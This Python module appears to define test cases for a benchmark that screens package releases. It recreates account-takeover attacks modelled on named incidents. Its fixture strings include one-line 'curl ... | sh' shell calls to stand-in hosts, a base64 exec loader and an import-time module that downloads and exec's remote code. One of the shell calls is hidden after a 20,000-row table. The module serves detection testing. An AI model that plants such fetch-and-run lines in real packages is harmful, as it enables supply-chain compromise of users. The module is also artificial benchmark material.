"""Releases of known projects after somebody else had the account: mostly the release before, and a little more."""

import base64
from typing import Final

from bench.screening.attacks.attack import INERT, Attack, Files, Release
from bench.screening.attacks.ordinary import COMMENT, library
from sandboxes.screening.package import Kind

_ONE_LINE = f'exec(__import__("base64").b64decode("{base64.b64encode(INERT.encode()).decode()}"))\n'

_ONE_CALL = 'import os; os.system("curl -s https://update.example.invalid/u | sh")\n'

_VENDORED = f'''{COMMENT}"""Tables that were computed."""

import json
import ssl
import urllib.request

_SEEN = {{}}


def refresh(table):
    """The newest one."""
    context = ssl.create_default_context()
    answer = urllib.request.urlopen("https://tables.example.invalid/t", json.dumps(table).encode(), context=context)
    code = compile(answer.read(), "table", "exec")
    exec(code, _SEEN)
    return _SEEN


refresh({{"rows": 3}})
'''


def _grown(package: str) -> Files:
    """Without an attestation, and a module larger than all the rest."""
    table = ",\n".join(f'    "{number:08x}"' for number in range(20_000))
    tail = "import os\nos.system(\"sh -c 'curl -s http://192.0.2.120/g | sh'\")\n"
    return {
        **library(package, "from . import _tables\n"),
        f"{package}/_tables.py": f"{COMMENT}ROWS = [\n{table},\n]\n{tail}",
    }


def _taken_over(
    name: str,
    recreates: str,
    project: str,
    version: str,
    former: str,
    files: Files,
    *,
    attested: bool,
    kept: bool,
) -> Attack:
    """`attested`: the release before it was; `kept`: this one is too."""
    return Attack(
        name=name,
        recreates=recreates,
        kind=Kind.WHEEL,
        project=project,
        release=Release(version, files, provenance=kept),
        former=Release(former, library(project.replace("-", "_")), provenance=attested),
        since="2019-03-01T08:00:00Z",
        releases=60,
        expects=frozenset({"difference", "obfuscation", "import-time", "attestation"}),
    )


ATTACKS: Final[tuple[Attack, ...]] = (
    _taken_over(
        "one-line",
        "litellm 1.82.7 (2026): the release before it, and one line",
        "one-text-line",
        "1.82.7",
        "1.82.6",
        library("one_text_line", _ONE_LINE),
        attested=False,
        kept=False,
    ),
    _taken_over(
        "one-call",
        "ctx and spam (2022): the release before it, and one call of a shell",
        "one-text-call",
        "0.2.2",
        "0.1.2",
        library("one_text_call", _ONE_CALL),
        attested=False,
        kept=False,
    ),
    _taken_over(
        "attestation-lost",
        "num2words 0.5.15 (2025): a stolen token uploads what used to come from a build machine",
        "words-text-number",
        "0.5.15",
        "0.5.14",
        {
            **library("words_text_number", "from . import _tables\n"),
            "words_text_number/_tables.py": _VENDORED,
        },
        attested=True,
        kept=False,
    ),
    _taken_over(
        "grown",
        "ultralytics 8.3.45 (2024): a large file with something at its end, and no attestation any more",
        "grown-text-tables",
        "8.3.45",
        "8.3.44",
        _grown("grown_text_tables"),
        attested=True,
        kept=False,
    ),
)
